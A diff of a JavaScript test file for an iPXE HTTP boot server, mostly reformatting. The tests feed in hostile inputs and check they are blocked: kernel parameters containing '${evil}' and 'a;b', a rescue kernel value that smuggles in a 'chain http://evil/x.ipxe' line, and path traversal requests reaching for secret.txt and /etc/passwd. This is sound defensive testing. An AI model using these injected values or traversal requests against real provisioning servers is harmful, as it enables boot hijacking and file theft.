@@ -45,9 +45,21 @@ describe('HTTP boot server', function () {
     fs.symlinkSync(path.join(dir, 'secret.txt'), path.join(root, 'link.txt'));
     const config = loadConfig({ env: {}, overrides: { boot: { deploy_kernel: 'tyr.kernel', deploy_ramdisk: 'tyr.initramfs' } } });
     const app = buildHttpBootApp({
-      config: { ...config, discovery: { ...config.discovery, get enabled() { return discovery; } } },
-      store, log: logs.log, root,
-      bootUrl: () => base, apiUrl: () => 'http://10.0.2.2:6385', onScriptServed: (mac) => scriptsServed.push(mac),
+      config: {
+        ...config,
+        discovery: {
+          ...config.discovery,
+          get enabled() {
+            return discovery;
+          },
+        },
+      },
+      store,
+      log: logs.log,
+      root,
+      bootUrl: () => base,
+      apiUrl: () => 'http://10.0.2.2:6385',
+      onScriptServed: (mac) => scriptsServed.push(mac),
     });
     server = await listen(app, '127.0.0.1', 0, 'HTTP boot', 'boot-http-port');
     base = `http://127.0.0.1:${boundPort(server)}`;
@@ -72,30 +84,46 @@ describe('HTTP boot server', function () {
   it('boots the deploy ramdisk with the API URL and node identity while deploying', async () => {
     const node = await nodeWithMac('52:54:00:00:00:01', 'wait call-back');
     const r = await text('/boot/52:54:00:00:00:01.ipxe');
-    expect(r.body).to.contain(`kernel ${base}/files/tyr.kernel ipa-api-url=http://10.0.2.2:6385 BOOTIF=01-52-54-00-00-00-01 tyr-mode=deploy tyr-node-uuid=${node.uuid}`);
+    expect(r.body).to.contain(
+      `kernel ${base}/files/tyr.kernel ipa-api-url=http://10.0.2.2:6385 BOOTIF=01-52-54-00-00-00-01 tyr-mode=deploy tyr-node-uuid=${node.uuid}`,
+    );
     expect(r.body).to.contain(`initrd --name ramdisk ${base}/files/tyr.initramfs`);
   });
 
-  it('appends the node\'s kernel_append_params, dropping words that could break the script', async () => {
-    await nodeWithMac('52:54:00:00:00:03', 'clean wait', { kernel_append_params: 'ipa-advertise-host=127.0.0.1 ipa-advertise-port=19999 ${evil} a;b' });
+  it("appends the node's kernel_append_params, dropping words that could break the script", async () => {
+    await nodeWithMac('52:54:00:00:00:03', 'clean wait', {
+      kernel_append_params: 'ipa-advertise-host=127.0.0.1 ipa-advertise-port=19999 ${evil} a;b',
+    });
     const body = (await text('/boot/52:54:00:00:00:03.ipxe')).body;
     expect(body).to.contain('ipa-advertise-host=127.0.0.1 ipa-advertise-port=19999');
     expect(body).to.not.contain('${evil}').and.not.contain('a;b');
   });
 
   it('never lets a stored kernel reference add a line: the node boots from disk instead (before: a `chain` line)', async () => {
-    const node = await nodeWithMac('52:54:00:00:00:04', 'rescue wait', { rescue_kernel: 'http://images/r.kernel\nchain http://evil/x.ipxe', rescue_ramdisk: 'r.initramfs' });
+    const node = await nodeWithMac('52:54:00:00:00:04', 'rescue wait', {
+      rescue_kernel: 'http://images/r.kernel\nchain http://evil/x.ipxe',
+      rescue_ramdisk: 'r.initramfs',
+    });
     const body = (await text('/boot/52:54:00:00:00:04.ipxe')).body;
     expect(body.split('\n').filter((line) => line.includes('evil'))).to.deep.equal([]);
-    expect(body).to.contain('sanboot').and.not.match(/^(kernel|chain)/m);
+    expect(body)
+      .to.contain('sanboot')
+      .and.not.match(/^(kernel|chain)/m);
     expect(body).to.contain(`node ${node.uuid}: driver_info/rescue_kernel is not an http(s) URL`);
     await nodeWithMac('52:54:00:00:00:05', 'clean wait', { deploy_ramdisk: 'tyr.initramfs ${evil}' });
-    expect((await text('/boot/52:54:00:00:00:05.ipxe')).body).to.not.contain('${evil}').and.not.match(/^initrd/m);
+    expect((await text('/boot/52:54:00:00:00:05.ipxe')).body)
+      .to.not.contain('${evil}')
+      .and.not.match(/^initrd/m);
   });
 
   it('follows the node state: rescue ramdisk from driver_info, then local disk when active', async () => {
-    const node = await nodeWithMac('52:54:00:00:00:02', 'rescue wait', { rescue_kernel: 'http://images/r.kernel', rescue_ramdisk: 'r.initramfs' });
-    expect((await text('/boot/52-54-00-00-00-02.ipxe')).body).to.contain('kernel http://images/r.kernel').and.contain('tyr-mode=rescue');
+    const node = await nodeWithMac('52:54:00:00:00:02', 'rescue wait', {
+      rescue_kernel: 'http://images/r.kernel',
+      rescue_ramdisk: 'r.initramfs',
+    });
+    expect((await text('/boot/52-54-00-00-00-02.ipxe')).body)
+      .to.contain('kernel http://images/r.kernel')
+      .and.contain('tyr-mode=rescue');
     await store.nodes.update(node.id, { provision_state: 'active' });
     const local = await text('/boot/52:54:00:00:00:02.ipxe');
     expect(local.body).to.contain('sanboot').and.not.contain('kernel');
@@ -134,7 +162,13 @@ describe('HTTP boot server', function () {
 
   it('never serves outside its root: dot-dot, encoded dot-dot, absolute paths, symlinks', async () => {
     const curl = requireTool('curl');
-    for (const p of ['/files/../secret.txt', '/files/%2e%2e/secret.txt', '/files/images/..%2f..%2fsecret.txt', '/files//etc/passwd', '/files/link.txt']) {
+    for (const p of [
+      '/files/../secret.txt',
+      '/files/%2e%2e/secret.txt',
+      '/files/images/..%2f..%2fsecret.txt',
+      '/files//etc/passwd',
+      '/files/link.txt',
+    ]) {
       const { stdout } = await run(curl, ['-s', '--path-as-is', '-o', '-', '-w', '\n%{http_code}', base + p]);
       const [body, code] = [stdout.slice(0, stdout.lastIndexOf('\n')), stdout.slice(stdout.lastIndexOf('\n') + 1)];
       expect(code, p).to.equal('404');
